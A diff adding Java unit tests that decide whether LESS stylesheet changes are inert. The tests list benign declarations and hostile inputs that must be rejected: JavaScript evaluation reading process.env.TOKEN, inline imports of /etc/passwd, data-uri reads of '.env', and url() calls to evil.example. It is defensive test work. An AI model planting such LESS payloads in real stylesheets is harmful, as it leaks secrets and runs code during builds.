@@ -119,4 +119,73 @@ class StylesTest {
         assertThat(Files.added("a.css", "a { color: red }\n").isProved()).isTrue();
         assertThat(Files.added("a.css", "@import 'x';\n").isProved()).isFalse();
     }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "@brand: #fff;",
+                ".a { .b; color: darken(@brand, 10%); &:hover { top: 0 } }",
+                ".m(@x; @y: 2px) when (iscolor(@x)) { width: (@y * 2) }",
+                ".a { tbody { tr { padding: 0 !important } } }",
+                "// Links, and what's below them",
+                ".@{name}-x { width: percentage(0.5) }"
+            })
+    void declarationsOfLessAreInert(String added) {
+        assertThat(Files.modified("a.less", "b { top: 0 }\n", "b { top: 0 }\n" + added + "\n")
+                        .isProved())
+                .isTrue();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "@x: `process.exit()`;",
+                "@x: ~`process.env.TOKEN`;",
+                "@x: \"`process.env.TOKEN`\";",
+                "@plugin \"evil\";",
+                "@import (inline) \"/etc/passwd\";",
+                "@import (less) \"evil.css\";",
+                "@import-once \"evil\";",
+                "@import url(//evil.example/x.css);",
+                ".a { background: data-uri('../../.env') }",
+                ".a { width: image-width('../../.env') }",
+                ".a { filter: ~\"progid:x\" }",
+                ".a { filter: ~'x' }",
+                ".a { filter: e(\"x\") }",
+                ".a { filter: %(\"%d\", @x) }",
+                ".a { b: replace(\"x\", \"x\", \"y\") }",
+                ".a { background: url(https://evil.example/x.png) }",
+                ".a { background: url(\"@{host}/x.png\") }",
+                ".a { background: url(@host) }",
+                "@host: \"//evil.example\";",
+                "@host: \"@{scheme}:x\";",
+                ".a { width: expression(alert(1)) }",
+                "input[value^=\"a\"] { color: red }",
+                "@x: a b\n// ; @import (inline) \"evil\";",
+                "--x: {\n// url(//evil.example)\n}",
+                "</style><script>",
+                "/* not closed"
+            })
+    void lessThatRunsFetchesOrIncludesIsNotInert(String added) {
+        assertThat(Files.modified("a.less", "b { top: 0 }\n", "b { top: 0 }\n" + added + "\n")
+                        .isProved())
+                .isFalse();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"@y: `@{x}`;", "@plugin 'p';", "a { background: url(\"//@{x}/a.png\") }"})
+    void anyValueMayMatterToALessSheetThatComputes(String rest) {
+        assertThat(Files.modified("a.less", "@x: a;\n" + rest, "@x: b;\n" + rest)
+                        .isProved())
+                .isFalse();
+        assertThat(Files.modified("a.less", "@x: a;\n", "@x: b;\n").isProved()).isTrue();
+    }
+
+    @Test
+    void movedLessIsInertAndDeletedLessIsNot() {
+        assertThat(Files.moved("a.less", "b.less", "a { b: c }\n", "a { b: c }\n")
+                        .isProved())
+                .isTrue();
+        assertThat(Files.deleted("a.less", "a { b: c }\n").isProved()).isFalse();
+    }
 }
